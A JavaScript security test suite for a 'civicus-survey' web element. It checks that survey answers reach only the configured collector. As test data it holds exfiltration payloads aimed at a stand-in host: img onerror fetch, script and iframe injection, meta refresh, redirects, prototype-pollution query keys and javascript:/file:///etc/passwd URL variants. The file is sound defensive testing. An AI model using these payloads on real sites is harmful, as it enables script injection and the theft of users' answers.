// T-G5: where answers go is said by the element, and by nothing else: not by an address, a message, a definition, a reply, or a later change.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { becomes, comesToMatch, triesAgain, until } from './harness.mjs';
import { SHORT, answersShort, shortWorld } from './short.mjs';

/** Nobody's site; the browser of these tests answers for it, as an endpoint would. */
const ELSEWHERE = 'https://elsewhere.invalid';
const BENT = `${ELSEWHERE}/v1/responses`;
const SECRET = 'a sentence for the collector only';

/** What authors, or whoever gets at their files, may write. */
const DEFINITIONS = Object.entries({
  'civicus.endpoint': { civicus: { endpoint: BENT, endpoints: [BENT], src: BENT } },
  'endpoint beside the pages': { endpoint: BENT, endpoints: [BENT], format: 'form', receipt: '' },
  'the services of SurveyJS': { surveyId: 'short', surveyPostId: BENT, surveyShowDataSaving: true, clientId: '1', cookieName: 'x' },
  'navigateToUrl': { navigateToUrl: `${ELSEWHERE}/?{why}`, navigateToUrlOnCondition: [{ expression: 'true', url: `${ELSEWHERE}/?{why}` }] },
  'HTML at the end': { completedHtml: `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/?{why}"><img src="${ELSEWHERE}/?{why}" onerror="fetch('${ELSEWHERE}')"><script src="${ELSEWHERE}/"></script><iframe src="${ELSEWHERE}/?{why}"></iframe>` },
  'pictures with answers in their addresses': { pages: [...SHORT.pages.slice(0, 1), { ...SHORT.pages[1], elements: [...SHORT.pages[1].elements, { type: 'image', name: 'seen', imageLink: `${ELSEWHERE}/{why}.png` },
    { type: 'imagepicker', name: 'pick', choices: [{ value: 1, imageLink: `${ELSEWHERE}/{why}.png` }] }, { type: 'html', name: 'told', html: `<img src="${ELSEWHERE}/{why}.png">` }] }] },
  'choices asked of others': { pages: [...SHORT.pages.slice(0, 1), { ...SHORT.pages[1], elements: [...SHORT.pages[1].elements, { type: 'dropdown', name: 'list', choicesByUrl: { url: `${ELSEWHERE}/{why}` } }] }] },
}).map(([title, change], place) => ({ ...SHORT, ...change, title, civicus: { ...change.civicus, id: `bent-${place}` } }));

let all;
before(async () => { all = await shortWorld({ surveys: DEFINITIONS }); });
after(() => all.close());

const why = () => `${SECRET} ${Math.random()}`;
const arrived = async (text) => (await all.stored()).filter(({ data }) => data.why === text);

/** A page that notes what is asked of others. `down`: the collector cannot be reached until that is taken back. */
async function opens(t, { query = '', down = false } = {}) {
  const context = await all.browser.newContext();
  t.after(() => context.close());
  const asked = [];
  await context.route(`${ELSEWHERE}/**`, async (route) => {
    const { id } = JSON.parse(route.request().postData() ?? '{}');
    asked.push(`${route.request().method()} ${route.request().url()} ${route.request().postData() ?? ''}`);
    await route.fulfill({ status: 201, contentType: 'application/json', headers: { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' }, body: JSON.stringify({ id }) });
  });
  if (down) await context.route(all.endpoint, (route) => route.abort());
  const page = await context.newPage();
  await page.goto(`${all.pages.url}/bare.html${query}`);
  return { page, asked, up: () => context.unroute(all.endpoint) };
}

/** Adds the element to the page; `attributes` that are undefined are left out. */
async function adds(page, { attributes = {}, properties = {} } = {}) {
  await page.evaluate(async ([given, own]) => {
    await customElements.whenDefined('civicus-survey');
    const element = document.createElement('civicus-survey');
    for (const [name, value] of Object.entries(given)) element.setAttribute(name, value);
    document.body.append(Object.assign(element, own));
  }, [{ src: all.src, endpoint: all.endpoint, loading: 'eager', ...attributes }, properties]);
  const survey = page.locator('civicus-survey').last();
  await survey.locator('.page').waitFor();
  return survey;
}

/** Answers and sends; only the collector has got it. */
async function sendsHome(survey, asked) {
  const text = why();
  await answersShort(survey, { why: text });
  await survey.locator('.finished.sent').waitFor();
  await becomes(async () => (await arrived(text)).length, 1);
  assert.deepEqual(asked, []);
}

const NAMES = ['endpoint', 'endpoints', 'data-endpoint', 'civicus-endpoint', 'cv.endpoint', 'data-civicus-endpoint', 'src', 'survey'];
for (const [what, query] of [['parameters', `?${NAMES.map((name) => `${name}=${encodeURIComponent(BENT)}`).join('&')}`], ['the part behind #', `#${NAMES.map((name) => `${name}=${BENT}`).join('&')}`],
  ['parameters that are objects', `?cv.endpoint=${encodeURIComponent(JSON.stringify([BENT]))}&cv.__proto__=${encodeURIComponent(JSON.stringify({ endpoint: BENT }))}&cv.constructor=x`]]) {
  test(`T-G5 an address with ${what}`, async (t) => {
    const { page, asked } = await opens(t, { query });
    await sendsHome(await adds(page, { attributes: { 'prefill-from-url': '', 'context-from-url': `${NAMES.join(' ')} __proto__` } }), asked);
  });
}

test('T-G5 messages, from the page, from a frame in it and from a window it has opened', async (t) => {
  const { page, asked } = await opens(t);
  const survey = await adds(page);
  await page.evaluate(async (endpoint) => {
    const messages = ['endpoint', 'config', 'configure', 'settings', 'hello', 'submit'].map((type) => ({ ns: 'civicus', v: 1, id: '1', type, endpoint, endpoints: [endpoint], detail: { endpoint } }));
    const frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { srcdoc: '<p></p>' }));
    await new Promise((resolve) => { frame.onload = resolve; });
    for (const message of messages) {
      for (const text of [message, JSON.stringify(message)]) {
        window.postMessage(text, '*');
        frame.contentWindow.eval(`parent.postMessage(${JSON.stringify(text)}, '*')`);
        document.querySelector('civicus-survey').dispatchEvent(new MessageEvent('message', { data: text }));
        document.querySelector('civicus-survey').dispatchEvent(new CustomEvent(`civicus-${message.type}`, { detail: message }));
      }
    }
    frame.remove();
  }, BENT);
  await sendsHome(survey, asked);
});

for (const { title, civicus: { id } } of DEFINITIONS) {
  test(`T-G5 a definition with ${title}`, async (t) => {
    const { page, asked } = await opens(t);
    const survey = await adds(page, { attributes: { src: `${all.collector.url}/v1/surveys/${id}` } });
    await answersShort(survey, { why: SECRET });
    await survey.locator('.finished.sent').waitFor();
    await becomes(async () => (await all.collector.stored(id)).map(({ data }) => data.why), [SECRET]);
    // A picture is an author's to show; what somebody answers is not in its address.
    assert.deepEqual(asked.filter((one) => !/^GET .*\.png $/.test(one) || decodeURIComponent(one).includes(SECRET)), []);
    assert.equal(new URL(page.url()).pathname, '/bare.html');
  });
}

for (const status of [301, 302, 303, 307, 308]) {
  test(`T-G5 an endpoint that answers ${status}`, async (t) => {
    const { page, asked, up } = await opens(t, { down: true });
    await page.context().route(all.endpoint, (route) => route.fulfill({ status, headers: { Location: BENT, Refresh: `0; url=${BENT}`, 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' } }));
    const survey = await adds(page);
    const text = why();
    await answersShort(survey, { why: text });
    await survey.locator('.finished.waiting').waitFor();
    await page.context().unroute(all.endpoint);
    await up();
    await triesAgain(survey, 'Try again', survey.locator('.finished.sent').waitFor());
    await becomes(async () => (await arrived(text)).length, 1);
    assert.deepEqual(asked, []);
  });
}

test('T-G5 an endpoint without https that takes anything: nothing counts as delivered', async (t) => {
  const { page } = await opens(t);
  const plain = 'http://collect.invalid/v1/responses';
  await page.context().route(plain, (route) => route.fulfill({ status: 200, contentType: 'text/plain', headers: { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' }, body: 'ok' }));
  const survey = await adds(page, { attributes: { endpoint: plain } });
  await answersShort(survey);
  await survey.locator('.finished.waiting').waitFor();
  await comesToMatch(() => survey.getAttribute('state'), /queued/);
});

/** What a page's script may do while a response waits; then the collector can be reached again. */
const LATER = {
  'the attribute is changed': (endpoint) => document.querySelector('civicus-survey').setAttribute('endpoint', endpoint),
  'the property is set': (endpoint) => { document.querySelector('civicus-survey').endpoints = [endpoint]; },
  'the attribute is changed, and all that waits is sent': (endpoint) => {
    const element = document.querySelector('civicus-survey');
    element.setAttribute('endpoint', endpoint);
    element.flush();
  },
  'another format is asked for': (endpoint) => {
    const element = document.querySelector('civicus-survey');
    for (const [name, value] of Object.entries({ endpoint, format: 'form', receipt: '' })) element.setAttribute(name, value);
  },
  'the element is taken out and put back': async (endpoint) => {
    const element = document.querySelector('civicus-survey');
    element.remove();
    await new Promise((resolve) => { setTimeout(resolve, 50); });
    element.setAttribute('endpoint', endpoint);
    document.body.append(element);
    await element.ready;
  },
  'another element comes beside it': async (endpoint) => {
    const other = document.querySelector('civicus-survey').cloneNode();
    other.setAttribute('endpoint', endpoint);
    document.body.append(other);
    await other.ready;
    await other.flush();
  },
  'another element comes in its place': async (endpoint) => {
    const element = document.querySelector('civicus-survey');
    const other = element.cloneNode();
    other.setAttribute('endpoint', endpoint);
    element.replaceWith(other);
    await other.ready;
    await other.flush();
  },
  'the page tells that there is a network, and is hidden and shown': (endpoint) => {
    document.querySelector('civicus-survey').setAttribute('endpoint', endpoint);
    for (const type of ['offline', 'online', 'pagehide', 'pageshow']) dispatchEvent(new Event(type));
    document.dispatchEvent(new Event('visibilitychange'));
  },
};
for (const [what, act] of Object.entries(LATER)) {
  test(`T-G5 while a response waits, ${what}: it goes where it was meant to go`, async (t) => {
    const { page, asked, up } = await opens(t, { down: true });
    const survey = await adds(page);
    const text = why();
    await answersShort(survey, { why: text });
    await survey.locator('.finished.waiting').waitFor();
    await page.evaluate(([source, endpoint]) => (0, eval)(`(${source})`)(endpoint), [String(act), BENT]);
    await up();
    await page.evaluate(() => { for (const element of document.querySelectorAll('civicus-survey')) element.flush(); });
    await until(async () => (await arrived(text)).length === 1, 'the response');
    assert.deepEqual(asked, []);
  });
}

test('T-G5 while a response waits, another page of the site opens with another endpoint: it goes where it was meant to go', async (t) => {
  const { page, asked, up } = await opens(t, { down: true });
  const survey = await adds(page);
  const text = why();
  await answersShort(survey, { why: text });
  await survey.locator('.finished.waiting').waitFor();
  const next = await page.context().newPage();
  await page.close();
  await next.goto(`${all.pages.url}/bare.html`);
  await up();
  await adds(next, { attributes: { endpoint: BENT } });
  await next.evaluate(() => document.querySelector('civicus-survey').flush());
  await until(async () => (await arrived(text)).length === 1, 'the response');
  assert.deepEqual(asked, []);
});

// What browsers read as `javascript:`, and what else is no page to leave for.
const NO_PAGES = ['javascript:window.ran=1', 'JaVaScRiPt:window.ran=1', ' javascript:window.ran=1', '\tjavascript:window.ran=1', 'java\nscript:window.ran=1',
  '\u0000javascript:window.ran=1', 'javascript://%0awindow.ran=1', 'javascript:/*https://*/window.ran=1', 'data:text/html,<p>', 'vbscript:ran', 'file:///etc/passwd',
  'blob:https://elsewhere.invalid/1', 'about:srcdoc', 'mailto:a@example.org', 'x-unknown:y', 'https://', 'http:///', '//'];

test('T-G5 an exit-url that is no page runs nothing, and leads to an empty page', async (t) => {
  const { page } = await opens(t);
  const said = [];
  page.on('console', (message) => said.push(message.text()));
  for (const address of NO_PAGES) {
    await page.goto(`${all.pages.url}/bare.html`);
    const survey = await adds(page, { attributes: { 'exit-url': address } });
    await page.evaluate(() => Object.defineProperty(window, 'ran', { set() { console.log('ran'); } }));
    await survey.getByRole('link', { name: 'Exit this page' }).click();
    await page.waitForURL('about:blank');
    assert.ok(!said.includes('ran'), address);
  }
});
